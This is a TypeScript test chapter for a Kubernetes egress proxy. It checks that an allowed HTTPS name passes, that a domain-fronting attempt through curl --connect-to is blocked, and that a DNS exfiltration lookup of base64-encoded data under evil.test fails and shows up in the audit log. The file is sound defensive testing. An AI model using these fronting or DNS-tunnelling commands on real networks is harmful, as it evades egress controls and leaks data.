import type { Chapter } from './chapter.ts';
import { ruleSet, setStage, startPods } from './stage.ts';

const PROXY_NAMESPACE = 'closed-proxy';
const NAMESPACE = 'closed';
const PROXY = `egressproxy/closed -n ${PROXY_NAMESPACE}`;

/** An EgressProxy of its own, so that the proxy of the other chapters is not rolled. */
const manifest = `apiVersion: v1
kind: Namespace
metadata: {name: ${PROXY_NAMESPACE}}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: kube-egress-controller, namespace: ${PROXY_NAMESPACE}}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: kube-egress-proxies}
subjects: [{kind: ServiceAccount, name: kube-egress-controller, namespace: kube-egress-system}]
---
apiVersion: zalando.org/v1
kind: EgressProxy
metadata: {name: closed, namespace: ${PROXY_NAMESPACE}}
spec:
  replicas: 1
  tlsServerName: Enforce
  dns: ClusterOnly
  # The internet simulator has addresses that are no public ones.
  privateDestinations: Allow
  privateCIDRs: [203.0.113.0/24]
`;

export const spokenNames: Chapter = {
  title: 'Another name inside an allowed tunnel, and data in DNS names: stopped and named',
  async execute(run) {
    await run.sh(
      `kubectl delete namespace ${NAMESPACE} ${PROXY_NAMESPACE} --ignore-not-found --timeout=60s`,
      { show: 0, timeoutSeconds: 70 },
    );
    await run.apply(manifest, { show: 40 });
    await setStage(run, { namespace: NAMESPACE, mode: 'enforce', pods: [] });
    await run.sh(`kubectl label namespace ${NAMESPACE} egress.zalando.org/proxy=${PROXY_NAMESPACE}.closed`);
    await run.eventually(
      'the nameserver of the proxy runs',
      async () =>
        (await run.sh(`kubectl get ${PROXY} -o jsonpath={.status.dnsAddresses[0]}`, { show: 0 })).stdout !==
        '',
      120,
    );
    await startPods(run, NAMESPACE, [{ name: 'api' }]);
    await ruleSet(run, NAMESPACE, 'rules', ['a.example.com:443']);
    const pod = `${NAMESPACE}/api`;
    const allowed = await run.exec(
      pod,
      `curl -sS -o /dev/null -m 10 -w '%{http_code}' https://a.example.com/`,
    );
    run.check('the allowed name passes', allowed.stdout === '200', allowed.stderr);
    const fronted = await run.exec(
      pod,
      `curl -sSk -o /dev/null -m 10 --connect-to files.example.com:443:a.example.com:443 https://files.example.com/`,
    );
    run.check('another name inside its tunnel does not', fronted.code !== 0, fronted.stderr);
    const data = 'c2VjcmV0IGRhdGE.evil.test';
    const leaked = await run.exec(pod, `getent hosts ${data}; echo $?`);
    run.check('data as a DNS name: there is no such name', leaked.stdout.trim() === '2', leaked.stdout);
    await run.eventually('the audit log names both', async () => {
      const log = `kubectl logs deployment/closed -n ${PROXY_NAMESPACE} -c agent --tail=-1`;
      const { stdout } = await run.sh(`${log} | grep -e ServerNameMismatch -e NameOutsideCluster`, {
        show: 0,
      });
      return stdout.includes('"sni":"files.example.com"') && stdout.includes(`${data.toLowerCase()}:53`);
    });
    await run.sh(
      `kubectl logs deployment/closed -n ${PROXY_NAMESPACE} -c agent --tail=-1 | grep -e ServerNameMismatch -e NameOutsideCluster`,
    );
  },
};
